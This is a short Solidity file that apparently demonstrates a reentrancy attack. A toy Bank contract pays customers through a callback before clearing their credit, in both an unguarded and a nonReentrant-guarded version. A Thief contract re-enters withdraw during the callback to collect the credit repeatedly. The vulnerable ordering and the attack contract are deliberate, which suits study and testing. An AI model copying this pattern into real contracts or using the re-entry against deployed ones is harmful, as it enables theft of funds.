// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.20;

import "@openzeppelin/contracts/utils/ReentrancyGuard.sol";

interface ICustomer {
    function onPaid(uint256 amount) external;
}

/// A ledger that tells its customers before it writes, with and without a guard.
contract Bank is ReentrancyGuard {
    event Paid(address indexed customer, uint256 amount, uint256 rest);

    mapping(address => uint256) public credit;
    uint256 public paid;

    function deposit(address customer, uint256 amount) external {
        credit[customer] += amount;
    }

    function withdraw() external {
        pay();
    }

    function guardedWithdraw() external nonReentrant {
        pay();
    }

    function pay() private {
        uint256 amount = credit[msg.sender];
        require(amount > 0, "no credit");
        ICustomer(msg.sender).onPaid(amount);
        paid += amount;
        credit[msg.sender] = 0;
        emit Paid(msg.sender, amount, gasleft());
    }
}

/// Withdraws again while it is being paid.
contract Thief is ICustomer {
    Bank public immutable bank;
    uint256 public loot;
    uint256 private rounds;
    bool private guarded;

    constructor(Bank bank_) {
        bank = bank_;
    }

    function steal(uint256 rounds_, bool guarded_) external {
        rounds = rounds_;
        guarded = guarded_;
        again();
    }

    function onPaid(uint256 amount) external {
        loot += amount;
        if (rounds > 0) {
            rounds--;
            again();
        }
    }

    function again() private {
        if (guarded) bank.guardedWithdraw();
        else bank.withdraw();
    }
}
